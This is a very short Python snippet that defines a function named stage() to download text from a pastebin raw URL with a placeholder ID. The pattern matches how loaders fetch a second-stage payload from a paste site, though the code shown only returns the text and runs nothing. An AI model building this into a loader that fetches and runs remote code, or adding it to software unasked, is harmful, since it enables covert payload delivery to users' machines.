import requests

TARGET = "https://pastebin.com/raw/00000000"

def stage():
    return requests.get(TARGET).text
